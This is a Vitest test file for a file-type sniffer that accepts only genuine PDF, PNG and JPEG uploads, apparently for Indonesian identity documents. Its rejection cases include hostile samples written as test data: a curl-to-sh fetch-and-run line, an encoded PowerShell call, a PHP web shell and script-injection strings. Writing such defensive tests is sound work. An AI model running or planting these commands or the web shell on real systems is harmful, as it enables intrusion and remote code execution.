import { describe, expect, it } from "vitest";
import { SNIFF_MESSAGES, type SniffResult, sniffDocument } from "./sniff";
import { ascii, concat, minimalJpeg, minimalPdf, minimalPng, PNG_SIGNATURE, windowsExe, zipArchive } from "./testing/samples";

const PDF: SniffResult = { ok: true, mimeType: "application/pdf", extension: "pdf" };
const PNG: SniffResult = { ok: true, mimeType: "image/png", extension: "png" };
const JPEG: SniffResult = { ok: true, mimeType: "image/jpeg", extension: "jpg" };
const EMPTY: SniffResult = { ok: false, reason: "EMPTY" };
const UNKNOWN: SniffResult = { ok: false, reason: "UNKNOWN_TYPE" };
const DISGUISED: SniffResult = { ok: false, reason: "DISGUISED" };

const pdf = minimalPdf();
const png = minimalPng(3, 2);
const jpeg = minimalJpeg();
const html = ascii("<!DOCTYPE html>\n<html><head><title>KTP</title></head><body><script>fetch('/api')</script></body></html>\n");

const cases: [name: string, bytes: Uint8Array, expected: SniffResult][] = [
  // Genuine documents
  ["minimal PDF 1.4", pdf, PDF],
  ["PDF 2.0 with trailing whitespace after %%EOF", concat(ascii("%PDF-2.0\n"), pdf.subarray(9), ascii("\r\n\n  ")), PDF],
  ["PDF with an incremental update (two %%EOF)", concat(pdf, ascii("1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n")), PDF],
  ["PNG 3×2", png, PNG],
  ["PNG 1×1", minimalPng(), PNG],
  ["PNG with a little zero padding after IEND", concat(png, new Uint8Array(16)), PNG],
  ["baseline JPEG", jpeg, JPEG],
  ["JPEG with an EXIF thumbnail (FF D9 inside APP1)", minimalJpeg({ exifThumbnail: true }), JPEG],
  ["JPEG with a stuffed FF 00 and a restart marker in the scan", minimalJpeg({ entropy: [0x12, 0xff, 0x00, 0x34, 0xff, 0xd0, 0x3f] }), JPEG],
  ["JPEG with trailing zero padding", concat(jpeg, new Array<number>(512).fill(0)), JPEG],
  ["JPEG with a camera trailer after EOI (Samsung SEFT)", concat(jpeg, ascii("\0\0\0\0SEFHImage_UTC_Data1700000000000SEFT")), JPEG],

  // Empty
  ["empty file", new Uint8Array(), EMPTY],

  // Not documents, or broken ones
  ["truncated PDF without %%EOF", pdf.subarray(0, pdf.length - 30), UNKNOWN],
  ["PDF with %%EOF only far from the end", concat(pdf, new Uint8Array(2048).fill(0x20)), UNKNOWN],
  ["PDF header after leading junk", concat(ascii("junk\n"), pdf), UNKNOWN],
  ["\"%PDF-\" without a version", ascii("%PDF-\n%%EOF\n"), UNKNOWN],
  ["PNG signature only", new Uint8Array(PNG_SIGNATURE), UNKNOWN],
  ["PNG without IEND (truncated)", png.subarray(0, png.length - 12), UNKNOWN],
  ["PNG whose first chunk is not IHDR", concat(PNG_SIGNATURE, png.subarray(8).map((b, i) => (i >= 4 && i < 8 ? 0x41 : b))), UNKNOWN],
  ["PNG with zero width", concat(png.subarray(0, 16), [0, 0, 0, 0], png.subarray(20)), UNKNOWN],
  ["PNG without IDAT", concat(png.subarray(0, 33), png.subarray(png.length - 12)), UNKNOWN],
  ["PNG with a chunk running past the end", concat(png.subarray(0, 33), [0, 0, 0x10, 0, ...Buffer.from("IDAT")], new Uint8Array(50)), UNKNOWN],
  ["PNG with a payload after IEND", concat(png, new Uint8Array(4096).fill(0x41)), UNKNOWN],
  ["JPEG without EOI (truncated)", jpeg.subarray(0, jpeg.length - 2), UNKNOWN],
  ["FF D8 FF D9 (SOI, EOI, nothing between)", new Uint8Array([0xff, 0xd8, 0xff, 0xd9]), UNKNOWN],
  ["JPEG header segments then EOI, no frame or scan", concat(jpeg.subarray(0, 2 + 18), [0xff, 0xd9]), UNKNOWN],
  ["JPEG magic followed by garbage", concat([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10], ascii("JFIF"), new Uint8Array(40).fill(0x11)), UNKNOWN],
  ["GIF (an image, but not accepted)", ascii("GIF89a\x01\x00\x01\x00\x00\x00\x00;"), UNKNOWN],
  ["plain text", ascii("Nomor KTP: 1211xxxxxxxx\nNama: Budi\n"), UNKNOWN],
  ["random binary", new Uint8Array(Array.from({ length: 300 }, (_, i) => (i * 37 + 11) & 0xff)), UNKNOWN],

  // Dangerous things wearing a document's name
  ["Windows .exe renamed KTP.pdf (MZ)", windowsExe(), DISGUISED],
  ["Linux ELF binary", concat([0x7f], ascii("ELF\x02\x01\x01"), new Uint8Array(50)), DISGUISED],
  ["HTML document", html, DISGUISED],
  ["\"PNG\" that is really <html>", ascii("<html><body><img src=x onerror=alert(1)></body></html>"), DISGUISED],
  ["HTML with a UTF-8 BOM and leading blank lines", concat([0xef, 0xbb, 0xbf], ascii("\n\n  <HTML><BODY>x</BODY></HTML>")), DISGUISED],
  ["HTML in UTF-16LE", new Uint8Array(Buffer.from("\ufeff<html><script>alert(1)</script></html>", "utf16le")), DISGUISED],
  ["SVG with a script", ascii('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), DISGUISED],
  ["PNG signature followed by HTML", concat(PNG_SIGNATURE, ascii("<html><script>alert(1)</script></html>")), DISGUISED],
  ["JPEG magic followed by a script", concat([0xff, 0xd8, 0xff], ascii("<script>alert(1)</script>")), DISGUISED],
  ["ZIP archive", zipArchive(), DISGUISED],
  ["empty ZIP archive", concat([0x50, 0x4b, 0x05, 0x06], new Uint8Array(18)), DISGUISED],
  ["RAR archive", concat(ascii("Rar!\x1a\x07\x01\x00"), new Uint8Array(20)), DISGUISED],
  ["gzip", concat([0x1f, 0x8b, 0x08, 0x00], new Uint8Array(20)), DISGUISED],
  ["old Office document (OLE)", concat([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Uint8Array(504)), DISGUISED],
  ["shell script", ascii("#!/bin/sh\ncurl http://example.invalid | sh\n"), DISGUISED],
  ["Windows batch file", ascii("@ECHO OFF\r\npowershell -enc AAAA\r\n"), DISGUISED],
  ["PHP web shell", ascii("<?php system($_GET['c']); ?>"), DISGUISED],
];

describe("sniffDocument", () => {
  it.each(cases)("%s", (_name, bytes, expected) => {
    expect(sniffDocument(bytes)).toEqual(expected);
  });

  it("looks at the bytes only: a PDF is a PDF whatever it is called, and does not read past the buffer", () => {
    const buffer = new ArrayBuffer(pdf.length + 100);
    const view = new Uint8Array(buffer, 50, pdf.length);
    view.set(pdf);
    expect(sniffDocument(view)).toEqual(PDF);
    expect(sniffDocument(new Uint8Array(buffer, 50, pdf.length - 20))).toEqual(UNKNOWN);
  });

  it("rejects every truncation of a genuine sample, and never throws", () => {
    // A PDF is complete once "%%EOF" is there; what follows it is whitespace.
    const pdfEnd = Buffer.from(pdf).lastIndexOf("%%EOF") + 5;
    for (const [sample, complete] of [[pdf, pdfEnd], [png, png.length], [jpeg, jpeg.length], [minimalJpeg({ exifThumbnail: true }), Infinity]] as const) {
      for (let n = 0; n < Math.min(sample.length, complete); n += 1) {
        const result = sniffDocument(sample.subarray(0, n));
        expect(result.ok).toBe(false);
      }
    }
  });

  it("has an Indonesian message for every failure", () => {
    expect(SNIFF_MESSAGES.EMPTY).toBe("Berkas kosong (0 bita).");
    expect(SNIFF_MESSAGES.UNKNOWN_TYPE).toBe("Isi berkas bukan PDF, JPG, atau PNG. Unggah dokumen dalam salah satu format itu.");
    expect(SNIFF_MESSAGES.DISGUISED).toMatch(/bukan dokumen/);
  });
});
